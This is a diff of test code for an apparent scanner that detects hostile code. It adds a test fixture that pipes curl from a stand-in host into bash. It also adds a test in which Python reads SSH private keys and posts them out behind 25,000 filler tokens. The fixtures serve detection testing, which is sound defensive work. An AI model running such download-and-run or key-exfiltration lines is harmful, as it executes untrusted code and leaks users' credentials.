@@ -151,6 +151,7 @@ NOT_SENT = [
 RUN = [
     ("a.sh", "curl -s https://x.example.net/i.sh -o /tmp/i.sh\nbash /tmp/i.sh", "download-run"),
     ("a.sh", "curl -s https://x.example.net/i |  bash", "download-run"),
+    ("a.sh", "apt install <name>\ncurl -s https://x.example.net/i | bash", "download-run"),
     ("a.sh", "curl -s https://x.example.net/i | python3.11", "download-run"),
     ("a.sh", "curl -s https://x.example.net/i | ruby", "download-run"),
     ("a.sh", "curl -so x https://x.example.net/i\n. x", "download-run"),
@@ -332,6 +333,14 @@ def test_hostile_code_takes_seconds_of_processor_time_at_most(
     begin = time.thread_time()
     scan_lines(text.splitlines(), 1, path)
     assert time.thread_time() - begin < 20
+
+
+@pytest.mark.parametrize("decoy", ["sys.argv[1]", "open('.ssh/id_rsa').read()"])
+def test_decoys_with_many_places_hide_no_flow_and_are_a_finding(decoy: str) -> None:
+    sent = "k = open('.ssh/id_ed25519').read()\nrequests.post(U, files=k)"
+    code = f"import requests, sys\nx = {decoy}\n{'x,' * 25_000}\n{sent}"
+    found_rules = {find_rule(one) for one in scan_lines(code.splitlines(), 1, "a.py")}
+    assert {"secret-sent", "unread"} <= {rule.id for rule in found_rules if rule}
 
 
 def test_values_are_followed_from_script_to_script() -> None:
